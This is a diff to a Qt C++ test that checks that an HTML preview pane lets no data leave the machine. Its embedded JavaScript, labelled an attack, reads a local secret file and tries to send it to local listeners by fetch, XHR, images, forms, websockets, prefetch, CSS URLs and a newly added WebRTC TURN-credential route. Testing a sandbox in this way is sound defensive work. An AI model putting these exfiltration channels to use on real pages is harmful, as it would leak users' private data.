@@ -19,6 +19,7 @@
 #include <QTemporaryDir>
 #include <QTemporaryFile>
 #include <QTest>
+#include <QUdpSocket>
 #include <QWebEngineSettings>
 #include <QWebEngineView>
 
@@ -210,12 +211,15 @@ void TestPreview::nothingLeavesTheMachine()
     QVERIFY(socket.listen(QHostAddress::LocalHost));
     QSignalSpy webCalls(&web, &QTcpServer::newConnection);
     QSignalSpy socketCalls(&socket, &QTcpServer::newConnection);
+    QUdpSocket datagrams;
+    QVERIFY(datagrams.bind(QHostAddress::LocalHost));
 
     QTemporaryDir dir;
     writeBytes(dir.filePath(u"sitio/secreto.txt"_qs), "SECRETO");
     const QString attack = uR"(
 var H = 'http://127.0.0.1:%1/', W = 'ws://127.0.0.1:%2/', done = [];
-var quiet = ['fetch', 'xhr', 'img', 'iframe', 'form', 'eventsource', 'websocket', 'prefetch'];
+var quiet = ['fetch', 'xhr', 'img', 'iframe', 'form', 'eventsource', 'websocket', 'prefetch',
+             'webrtc'];
 function settled(way) {
   done.push(way);
   if (done.length == quiet.length) {
@@ -253,12 +257,25 @@ fetch('secreto.txt').then(r => r.text()).then(t => {
     var p = document.createElement('link'); p.rel = rel; p.href = H + rel;
     document.head.appendChild(p);
   }
+  // Peer connections reach their servers without any request the browser could refuse.
+  // A frame of its own is a fresh window, with every constructor in it.
+  var blank = document.createElement('iframe'); document.body.appendChild(blank);
+  var Peer = blank.contentWindow.RTCPeerConnection || window.RTCPeerConnection;
+  if (!Peer) { settled('webrtc'); } else {
+    var pc = new Peer({iceServers: [{urls: 'stun:127.0.0.1:%3'},
+        {urls: 'turn:127.0.0.1:%1?transport=tcp', username: 'u', credential: s}]});
+    pc.createDataChannel('d');
+    pc.onicegatheringstatechange = () => {
+      if (pc.iceGatheringState == 'complete') settled('webrtc'); };
+    pc.createOffer().then(o => pc.setLocalDescription(o));
+  }
   var c = document.createElement('div');
   c.style.backgroundImage = 'url(' + H + 'css?d=' + s + ')';
   c.textContent = 'x'; document.body.appendChild(c);
 });
 )"_qs.arg(web.serverPort())
-                               .arg(socket.serverPort());
+                               .arg(socket.serverPort())
+                               .arg(datagrams.localPort());
 
     Fixture f;
     f.text1.setText(u"<html><head><title>esperando</title></head><body><script>"_qs + attack +
@@ -281,16 +298,17 @@ fetch('secreto.txt').then(r => r.text()).then(t => {
     const auto reached = [&] {
         QCoreApplication::processEvents();
         return webCalls.size() + socketCalls.size() + web.hasPendingConnections() +
-               socket.hasPendingConnections();
+               socket.hasPendingConnections() + datagrams.hasPendingDatagrams();
     };
     QTRY_VERIFY_WITH_TIMEOUT((!loads.isEmpty() && !loads.last().first().toBool()) || reached(),
-                             20000);
+                             60000);
     QCOMPARE(reached(), 0);
     QStringList seen;
     for (const QList<QVariant> &title : titles)
         seen.append(title.first().toString());
-    QVERIFY2(seen.contains(u"hecho:eventsource,fetch,form,iframe,img,prefetch,websocket,xhr"_qs),
-             qPrintable(seen.join(u" | "_qs)));
+    QVERIFY2(
+        seen.contains(u"hecho:eventsource,fetch,form,iframe,img,prefetch,webrtc,websocket,xhr"_qs),
+        qPrintable(seen.join(u" | "_qs)));
     if (remoteAllowed) {
         // Every way out was tried, and the seal refused each one itself.
         QSet<QString> tried;
